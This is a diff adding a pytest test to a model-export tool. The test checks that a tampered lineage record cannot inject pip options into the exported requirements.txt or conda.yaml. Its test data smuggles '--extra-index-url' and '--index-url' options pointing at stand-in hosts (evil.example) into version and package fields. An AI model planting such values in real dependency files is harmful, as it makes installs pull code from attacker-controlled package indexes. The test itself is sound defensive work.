@@ -254,3 +254,38 @@ def test_the_cli_parser_knows_the_format() -> None:
     assert parser.parse_args(["export", "churn", "d", "--format", "onnx"]).format == "onnx"
     with pytest.raises(SystemExit):
         parser.parse_args(["export", "churn", "d", "--format", "pickle"])
+
+
+def test_a_crafted_lineage_never_puts_a_pip_option_in_the_requirements(
+    churn: Path, tmp_path: Path
+) -> None:
+    """The lineage's packages come from the store's row, which whoever writes the store
+    chooses: an item that is not a package name and version (red-team H8: a "version"
+    holding a newline and ``--extra-index-url``) is left out, and said."""
+    import sqlite3
+
+    project = tmp_path / "project"
+    shutil.copytree(churn, project, ignore=shutil.ignore_patterns("live", "mlflow-model", "again"))
+    store = project / ".specops" / "store.db"
+    with sqlite3.connect(store) as db:
+        (lineage,) = db.execute("SELECT lineage_json FROM model_versions").fetchone()
+        packages = json.loads(lineage)["packages"]
+        crafted = {
+            **packages,
+            "numpy": packages["numpy"] + "\n--extra-index-url https://evil.example/simple",
+            "lightgbm; python_version>'0' --index-url https://evil2.example/simple": "1.0",
+        }
+        text = json.dumps({**json.loads(lineage), "packages": crafted})
+        db.execute("UPDATE model_versions SET lineage_json = ?", (text,))
+    db.close()
+
+    model = tmp_path / "exported"
+    code, _, err = export("churn", model, project)
+    assert code == 0, err
+    requirements = (model / "requirements.txt").read_text()
+    conda = (model / "conda.yaml").read_text()
+    for written in (requirements, conda):
+        assert "evil" not in written and "index-url" not in written, written
+    assert f"lightgbm=={packages['lightgbm']}" in requirements.split()  # the real pins stay
+    assert not any(line.startswith("numpy") for line in requirements.split())
+    assert "not a package name and version: left out of requirements.txt" in err
